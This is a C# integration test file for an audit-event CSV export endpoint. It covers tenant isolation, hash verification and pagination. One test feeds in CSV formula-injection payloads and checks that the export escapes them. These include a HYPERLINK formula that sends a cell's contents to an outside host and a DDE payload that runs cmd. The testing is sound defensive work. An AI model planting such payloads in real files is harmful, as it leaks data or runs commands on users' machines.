using Bpc.Core.Canonical;
using Bpc.Gateway.Auth;
using Microsoft.VisualBasic.FileIO;

namespace Bpc.Tests.Gateway;

/// <summary>The events as a table, read by a parser that is not ours, as a spreadsheet would read it.</summary>
[Trait("Category", "Integration")]
public sealed class AuditTableTests(GatewayFixture fixture) : IClassFixture<GatewayFixture>, IAsyncLifetime
{
    private const string Path = "/v1/audit/events.csv";

    // Each of them is run, or may be, by one spreadsheet or another.
    private static readonly string[] s_formulas =
    [
        "=HYPERLINK(\"https://example.com?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
    ];

    private static readonly string[] s_texts = ["api_key:1", "a, \"quoted\"\r\nline", "'=1", "电池 🔋", "a=1", " =1"];

    private readonly RunningGateway _gateway = fixture.Gateway;
    private Tenant _tenant = null!;

    public async ValueTask InitializeAsync() => _tenant = await _gateway.CreateTenantAsync();

    public ValueTask DisposeAsync()
    {
        _tenant.Http.Dispose();
        return ValueTask.CompletedTask;
    }

    [Fact]
    public async Task No_cell_begins_a_formula_and_every_other_one_is_as_it_was()
    {
        string[] actors = [.. s_formulas, .. s_texts];
        await AppendAsync(actors);
        var answer = await _tenant.Http.GetAnswerAsync($"{Path}?event_type=snapshot.created");
        Assert.Equal("text/csv; charset=utf-8", answer.Header("Content-Type"));
        Assert.StartsWith("attachment;", answer.Header("Content-Disposition"));

        var rows = Rows(answer.Text);
        Assert.Equal(actors.Length + 1, rows.Count);
        Assert.All(rows.SelectMany(row => row), cell => Assert.DoesNotContain(
            cell[..Math.Min(1, cell.Length)], (string[])["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]));
        var column = Array.IndexOf(rows[0], "actor_id");
        var shown = rows.Skip(1).Select(row => row[column]).Reverse();
        Assert.Equal([.. s_formulas.Select(formula => $"'{formula}"), .. s_texts], shown);
    }

    [Fact]
    public async Task It_holds_every_event_of_the_list_and_none_of_another_tenant()
    {
        await AppendAsync([.. Enumerable.Range(0, 450).Select(n => $"actor {n}")]);
        var stranger = await _gateway.CreateTenantAsync();
        using var auditor = _gateway.Client(await _gateway.CreateKeyAsync(_tenant.Id, Role.Auditor));

        var rows = Rows((await auditor.GetAnswerAsync(Path)).Text);
        var theirs = Rows((await stranger.Http.GetAnswerAsync(Path)).Text);

        var stored = await _gateway.Database.ScalarAsync<string>(
            "SELECT string_agg(event_id || ' ' || event_hash, ' ' ORDER BY event_id DESC) FROM events"
            + " WHERE tenant_id = $1", _tenant.Id);
        var hash = Array.IndexOf(rows[0], "event_hash");
        Assert.Equal(stored, string.Join(' ', rows.Skip(1).Select(row => $"{row[0]} {row[hash]}")));
        Assert.DoesNotContain(theirs.Skip(1), row => rows.Exists(own => own[0] == row[0]));
        var first = (await auditor.GetAnswerAsync("/v1/audit/events?limit=1")).Json.GetProperty("items")[0];
        Assert.Equal(first.EnumerateObject().Select(member => member.Name).Order(), rows[0].Order());
        stranger.Http.Dispose();
    }

    [Fact]
    public async Task An_events_hash_can_be_made_anew_from_what_the_list_says_of_it()
    {
        await AppendAsync([.. Enumerable.Range(0, 150).Select(n => $"actor {n}")]);

        var items = (await _tenant.Http.GetAnswerAsync("/v1/audit/events?limit=200")).Json.GetProperty("items");

        Assert.True(items.GetArrayLength() >= 150);
        Assert.All(items.EnumerateArray(), item =>
        {
            JsonValue Text(string name) => item.GetProperty(name).GetString() is { } text ? text : JsonValue.Null.Value;
            string[] texts = ["tenant_id", "aggregate_type", "aggregate_id", "event_type", "occurred_at", "actor_id",
                "payload_hash", "prev_event_hash"];
            Assert.Equal(
                item.GetProperty("event_hash").GetString(),
                CanonicalJson.HashHex(JsonValue.Object([
                    ("aggregate_version", item.GetProperty("aggregate_version").GetInt64()),
                    .. texts.Select(name => (name, Text(name)))])));
        });
    }

    [Fact]
    public async Task Events_of_a_time_come_page_by_page_newest_first_and_nobody_goes_on_in_another_order()
    {
        await AppendAsync([.. Enumerable.Range(0, 9).Select(n => $"actor {n}")]);
        var bounds = await _gateway.Database.ScalarAsync<string[]>(
            """
            SELECT ARRAY[bpc_time((array_agg(occurred_at ORDER BY event_id))[3]),
                         bpc_time((array_agg(occurred_at ORDER BY event_id))[8])]
              FROM events WHERE tenant_id = $1 AND actor_id LIKE 'actor %'
            """, _tenant.Id);
        var list = $"/v1/audit/events?limit=2&since={bounds![0]}&until={bounds[1]}";
        var (seen, cursor) = (new List<string?>(), "");
        do
        {
            var page = (await _tenant.Http.GetAnswerAsync(list + cursor)).Json;
            seen.AddRange(
                page.GetProperty("items").EnumerateArray().Select(e => e.GetProperty("actor_id").GetString()));
            cursor = page.GetProperty("next_cursor").GetString() is { } next ? $"&cursor={next}" : "";
        }
        while (cursor.Length > 0);

        Assert.Equal(["actor 6", "actor 5", "actor 4", "actor 3", "actor 2"], seen);
        var first = (await _tenant.Http.GetAnswerAsync("/v1/audit/events?limit=2")).Json;
        var refused = await _tenant.Http.GetAnswerAsync(
            $"{list}&cursor={first.GetProperty("next_cursor").GetString()}");
        Assert.Equal(422, refused.Status);
    }

    private Task<int> AppendAsync(string[] actors) => _gateway.Database.ExecuteAsync(
        """
        SELECT append_event($1, 'snapshot', bpc_uuid7(), 'snapshot.created', a.actor, '{}')
          FROM unnest($2::text[]) WITH ORDINALITY AS a (actor, n) ORDER BY a.n
        """,
        _tenant.Id, actors);

    private static List<string[]> Rows(string text)
    {
        using var parser = new TextFieldParser(new StringReader(text))
        {
            Delimiters = [","],
            TrimWhiteSpace = false,
        };
        var rows = new List<string[]>();
        while (parser.ReadFields() is { } row)
        {
            rows.Add(row);
        }

        return rows;
    }
}
